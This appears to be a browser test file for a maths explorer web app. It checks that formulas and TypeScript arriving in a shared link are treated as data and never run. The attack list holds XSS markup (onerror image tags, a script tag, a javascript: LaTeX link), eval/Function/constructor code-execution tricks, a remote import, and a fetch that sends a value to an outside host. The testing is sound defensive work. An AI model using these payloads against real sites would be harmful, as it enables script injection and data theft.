/** What arrives in a link is read as mathematics and never run. */
import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { browserPath, type Explorer, fragment, type OpenedPage, startExplorer, valueOf } from "./explorer.ts";

vi.setConfig({ testTimeout: 60_000, hookTimeout: 120_000 });

describe.skipIf(browserPath === undefined)("a shared link", () => {
  let explorer: Explorer;
  let attacked: OpenedPage | undefined;
  beforeAll(async () => {
    explorer = await startExplorer();
  });
  afterAll(() => explorer.close());

  test("opens on the state it was made in", async () => {
    const { page, complaints } = await explorer.open();
    await page.getByRole("combobox", { name: "Examples" }).selectOption({ label: "Two nested tanh, forward mode" });
    await page.getByRole("button", { name: "Numbers" }).click();
    await page.getByRole("button", { name: "Next step" }).click();
    await page.getByRole("button", { name: "Next step" }).click();
    await expect.poll(() => page.url()).toContain("step=2");
    const { page: other, complaints: otherComplaints } = await explorer.open(new URL(page.url()).hash);
    await expect.poll(() => other.locator(".count").textContent()).toBe("2 / 5");
    const words = await page.locator("[data-description]").textContent();
    await expect.poll(() => other.locator("[data-description]").textContent()).toBe(words);
    expect(await other.getByRole("button", { name: "Numbers" }).getAttribute("aria-pressed")).toBe("true");
    expect([...complaints, ...otherComplaints]).toEqual([]);
  });

  const attacks: readonly (readonly [name: string, parts: Readonly<Record<string, string>>])[] = [
    ["fetch", { typescript: "export function f(x: number) { fetch('https://example.org/' + x); return x; }" }],
    ["document", { typescript: "export function f(x: number) { document.title = 'taken'; return x; }" }],
    [
      "a constructor",
      { typescript: "export const f = (x: number) => x.constructor.constructor('globalThis.taken = 1')() ?? x;" },
    ],
    ["an immediate call", { typescript: "(() => { globalThis.taken = 1; })();\nexport const f = (x: number) => x;" }],
    ["a default", { typescript: "export const f = (x: number = (globalThis.taken = 1)) => x;" }],
    ["an import", { typescript: "import 'https://example.org/x.js';\nexport const f = (x: number) => taken(x);" }],
    ["eval", { typescript: "export const f = (x: number) => eval('globalThis.taken = 1') + x;" }],
    ["Function", { typescript: "export const f = (x: number) => Function('globalThis.taken = 1')() + x;" }],
    ["markup in a formula", { formula: "<img src=x onerror=globalThis.taken=1>" }],
    [
      "markup in a comment",
      { typescript: "// <script>globalThis.taken=1</script>\nexport const f = (x: number) => y;" },
    ],
    ["LaTeX that links", { formula: "\\href{javascript:globalThis.taken=1}{x}" }],
    ["markup in a point", { formula: "x", at: 'x="<img src=x onerror=globalThis.taken=1>"' }],
    [
      "markup in a function's name",
      { typescript: "export const f = (x: number) => q;", function: "<img src=x onerror=globalThis.taken=1>" },
    ],
    [
      "markup in a derivation",
      { formula: "x*x", panel: "derivation", claim: "<img src=x onerror=globalThis.taken=1> = 1" },
    ],
  ];
  test.each(attacks)("with %s does nothing but show what is wrong", async (_, parts) => {
    attacked ??= await explorer.open();
    const { page, complaints } = attacked;
    await page.goto(`${explorer.address}${fragment(parts)}`);
    const text = parts["typescript"] ?? parts["formula"];
    await expect.poll(() => page.locator(".status").getAttribute("data-settled")).toBe(text);
    await page.waitForTimeout(300);
    expect(await page.evaluate(() => Reflect.get(globalThis, "taken"))).toBeUndefined();
    expect(await page.title()).toContain("Wengert");
    expect(await page.locator("img, iframe, script:not([type=module])").count()).toBe(0);
    expect(complaints).toEqual([]);
  });

  test("with calls of the page's own objects shows an error with its place", async () => {
    const { page } = await explorer.open(fragment(attacks[0]?.[1] ?? {}));
    await page.locator(".status .problem").waitFor();
    await expect.poll(() => page.locator(".mistake").textContent()).toContain("fetch");
  });

  test("with an endless loop is stopped by the button, and the page goes on", async () => {
    const endless =
      "export function f(x: number) {\n  let s = x;\n  while (true) { if (s > 1e308) break; }\n  return s;\n}";
    const { page, complaints } = await explorer.open(fragment({ typescript: endless }));
    const stop = page.getByRole("button", { name: "Stop" });
    await stop.waitFor();
    // The page itself answers while the worker is busy.
    await page.getByRole("button", { name: /Switch to/ }).click();
    await stop.click();
    await expect.poll(() => page.locator(".status .problem").textContent()).toContain("stopped");
    await page.getByRole("combobox", { name: "Examples" }).selectOption({ label: "One input used three times" });
    await expect.poll(() => valueOf(page, "w")).toBeCloseTo(-0.405989, 5);
    expect(complaints).toEqual([]);
  });

  test("with an endless loop that nobody stops ends by itself", async () => {
    const { page } = await explorer.open(
      fragment({ typescript: "const f = (x: number) => { while (x > 0) {} return x; }", at: "x=1" }),
    );
    await expect
      .poll(() => page.locator(".status .problem").textContent({ timeout: 20_000 }), { timeout: 20_000 })
      .toContain("10 seconds");
  });

  test("keeps only what figures are made of when one is put in place", async () => {
    const { page } = await explorer.open(fragment({ formula: "x*x" }));
    await page.locator(".canvas svg").waitFor();
    const names = await page
      .locator(".canvas svg, .canvas svg *")
      .evaluateAll((elements) => elements.flatMap((element) => [...element.attributes].map(({ name }) => name)));
    expect(names.filter((name) => name.startsWith("on") || name === "style")).toEqual(
      names.includes("style") ? ["style"] : [],
    );
  });
});
